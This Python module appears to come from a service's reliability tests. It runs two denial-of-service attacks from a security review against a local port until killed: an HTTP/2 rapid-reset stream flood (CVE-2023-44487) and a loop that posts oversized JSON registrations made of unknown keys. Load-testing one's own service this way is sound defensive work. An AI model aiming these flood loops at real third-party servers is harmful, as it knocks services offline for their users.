"""The security review's medium attacks, as a process of their own that runs until killed.

    python -m reliability.attackers rapid-reset PORT TOKEN
    python -m reliability.attackers amplification PORT

- ``rapid-reset`` (CVE-2023-44487): HTTP/2 over cleartext, by prior knowledge and by
  ``Upgrade: h2c`` in turn, each connection opening streams and resetting them at once,
  as fast as one process can, with a valid token of its own on every stream. A server
  that refuses HTTP/2 is simply tried again, on a new connection.
- ``amplification``: two loops posting registrations without a token whose bodies are
  nothing but unknown keys: the review's (0.92 MB, 85,000 keys) and the largest such body
  the service accepts to read (64 KiB), in turn.

Every attempt is counted; the counts are printed, one line per kind, when the process
gets SIGTERM, and read by ``reliability.test_attacks``.
"""

from __future__ import annotations

import signal
import socket
import sys
import threading
from collections import Counter
from types import FrameType

import h2.config
import h2.connection
import h2.exceptions

STREAMS_PER_CONNECTION = 1_000
counts: Counter[str] = Counter()
_lock = threading.Lock()


def _count(kind: str) -> None:
    with _lock:
        counts[kind] += 1


def _h2_streams(sock: socket.socket, port: int, token: str, *, upgraded: bool) -> None:
    """Open and at once reset streams on ``sock`` until the server stops reading."""
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    if upgraded:
        connection.initiate_upgrade_connection()
    else:
        connection.initiate_connection()
    sock.sendall(connection.data_to_send())
    headers = [
        (":method", "GET"),
        (":path", "/accounts"),
        (":scheme", "http"),
        (":authority", f"127.0.0.1:{port}"),
        ("authorization", f"Bearer {token}"),
    ]
    stream_id = 3 if upgraded else 1  # stream 1 is the upgrade request's
    for _ in range(STREAMS_PER_CONNECTION):
        connection.send_headers(stream_id, headers, end_stream=True)
        connection.reset_stream(stream_id)
        sock.sendall(connection.data_to_send())
        _count("streams reset")
        stream_id += 2


def rapid_reset(port: int, token: str) -> None:
    upgrade = (
        f"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
    ).encode()
    attempt = 0
    while True:
        attempt += 1
        upgraded = attempt % 2 == 0
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
                _count("connections")
                if upgraded:
                    sock.sendall(upgrade)
                    answer = sock.recv(65536)
                    if not answer.startswith(b"HTTP/1.1 101"):
                        _count("upgrades refused")
                _h2_streams(sock, port, token, upgraded=upgraded)
        except (OSError, h2.exceptions.ProtocolError):
            _count("connections dropped by the server")


def _registrations(port: int, body: bytes, kind: str) -> None:
    head = (
        f"POST /users HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode()
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
                sock.sendall(head + body)
                answer = b""
                while b"\r\n\r\n" not in answer:
                    chunk = sock.recv(65536)
                    if not chunk:
                        break
                    answer += chunk
                status = answer.split(b" ", 2)[1].decode() if answer else "none"
                _count(f"{kind} answered {status}")
        except OSError:
            _count(f"{kind} dropped")


def _unknown_keys(size: int) -> bytes:
    """A registration of about ``size`` bytes, all but two of its keys unknown."""
    body = ['{"name":"Mallory","email":"mallory@example.com"']
    length = len(body[0]) + 1
    number = 0
    while True:
        member = f',"{number:x}":1'
        if length + len(member) > size:
            return ("".join(body) + "}").encode()
        body.append(member)
        length += len(member)
        number += 1


def amplification(port: int) -> None:
    review = _unknown_keys(920_000)  # the review's: about 85,000 keys
    largest = _unknown_keys(64 * 1024)  # the largest body the service reads
    loops = [
        threading.Thread(target=_registrations, args=(port, review, "0.92 MB"), daemon=True),
        threading.Thread(target=_registrations, args=(port, largest, "64 KiB"), daemon=True),
    ]
    for loop in loops:
        loop.start()
    threading.Event().wait()


def _report(signum: int, frame: FrameType | None) -> None:
    with _lock:
        for kind, count in sorted(counts.items()):
            print(f"{kind}: {count}", flush=True)
    sys.exit(0)


def main(argv: list[str]) -> None:
    signal.signal(signal.SIGTERM, _report)
    kind, port = argv[0], int(argv[1])
    if kind == "rapid-reset":
        rapid_reset(port, argv[2])
    elif kind == "amplification":
        amplification(port)
    else:
        raise SystemExit(f"unknown attack {kind!r}")


if __name__ == "__main__":
    main(sys.argv[1:])
